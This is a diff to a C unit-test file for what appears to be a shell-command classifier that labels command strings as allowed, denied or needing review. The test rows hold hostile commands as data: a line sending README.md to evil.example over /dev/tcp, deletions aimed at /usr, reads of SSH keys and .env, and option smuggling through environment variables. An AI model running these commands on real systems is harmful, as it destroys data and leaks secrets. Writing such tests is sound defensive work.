@@ -104,6 +104,53 @@ static const struct row place_rows[] = {
 	{ UPLOAD, "cat README.md > /dev/tcp/evil.example/80" },
 };
 
+static const struct row brace_rows[] = {
+	{ ALLOW, "mkdir -p src/{a,b/{c,d}}" },
+	{ ALLOW, "rm -rf {build,src/gen}" },
+	{ ALLOW, "cp a.txt{,.bak}" },
+	{ ALLOW, "rm -rf build/{*.o,x}" },
+	{ ALLOW, "e{ch,}o hi" },
+	{ ALLOW, "for i in {1..5}; do echo $i > out-$i.txt; done" },
+	{ ALLOW, "for i in {a..c}; do rm -rf build/$i; done" },
+	{ DENY, "rm -rf {build,/usr}" },
+	{ DENY, "{rm,-rf,/usr}" },
+	{ DENY, "cat ~/.{ssh/id_rsa,bashrc}" },
+	{ DENY, "cat {README.md,.env}" },
+	{ DENY, "for f in {README.md,.env}; do cat $f; done" },
+	{ SELF, "rm -rf ~/.config/{auto-classifier,x}" },
+	{ OPEN, "rm -rf {src,$x}" },
+	{ OPEN, "rm -rf {'a b',src}" },
+	{ OPEN, "rm {-rf,src}{01..03}" },
+	{ OPEN, "rm -rf ../{a,b}" },
+	{ OPEN, "rm -rf {1..100000}" },
+	/* everything in the root is more than some files of it */
+	{ OPEN, "rm .*" },
+	{ OPEN, "rm -f -- *" },
+	{ ALLOW, "rm -f -- *.o" },
+	{ ALLOW, "rm build/*" },
+	/* a variable of the environment is an operand; one that the line sets may be an option */
+	{ ALLOW, "git log \"$REVISION\"" },
+	{ OPEN, "read REVISION; git log \"$REVISION\"" },
+	{ OPEN, "printf -v REVISION %s --output=x; git log \"$REVISION\"" },
+	{ OPEN, "printf -v 'REVI'SION %s --output=x; git log \"$REVISION\"" },
+	{ OPEN, "eval x; git log \"$REVISION\"" },
+	{ OPEN, ": ${REVISION:=--output=x}; git log \"$REVISION\"" },
+	/* what is counted is not shown */
+	{ ALLOW, "wc -l < \"$f\"" },
+	{ OPEN, "cat < \"$f\"" },
+	{ OPEN, "tr a b < \"$f\"" },
+	{ ALLOW, "while IFS= read -r l; do echo \"$l\"; done < README.md" },
+	{ DENY, "while IFS= read -r l; do echo \"$l\"; done < .env" },
+	{ ALLOW, "{ echo a; echo b; } > out.txt" },
+	{ OPEN, "{ echo a; echo b; } > ~/.bashrc" },
+};
+
+static void test_braces_and_operands(void **state)
+{
+	(void)state;
+	WALK(brace_rows, SHELL_FRESH);
+}
+
 static void test_places(void **state)
 {
 	(void)state;
@@ -140,6 +187,19 @@ static const struct row environment_rows[] = {
 	{ OPEN, "PYTHONPATH=src:/srv ls" },
 	{ OPEN, "x='a[$(id)]'; echo $((x))" },
 	{ OPEN, "read PATH < x; ls" },
+	{ ALLOW, "IFS=, read -r a b < README.md" },
+	{ OPEN, "IFS=, ls" },
+	{ ALLOW, "export PLANNER_EXPECT_USER=ada; ls" },
+	{ ALLOW, "SUITE_LEVEL=3 ls" },
+	{ OPEN, "export PLANNER_EXPECT_USER=\"$x\"; ls" },
+	{ OPEN, "export PLANNER_EXPECT_USER=./run; ls" },
+	{ OPEN, "export PLANNER_EXPECT_USER='a b'; ls" },
+	{ OPEN, "export PLANNER_EXPECT_USER=-x; ls" },
+	{ OPEN, "export RUSTC_WRAPPER=x; ls" },
+	{ OPEN, "MY_MANPAGER=x ls" },
+	{ OPEN, "export GIT_EXTERNAL_DIFF=x; ls" },
+	{ OPEN, "export PG_USER=x; ls" },
+	{ OPEN, "planner_user=x ls" },
 	{ OPEN, "printf -v PATH %s /tmp; ls" },
 };
 
@@ -196,6 +256,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_places),
+		cmocka_unit_test(test_braces_and_operands),
 		cmocka_unit_test(test_environment),
 		cmocka_unit_test(test_names),
 		cmocka_unit_test(test_kept_shell),
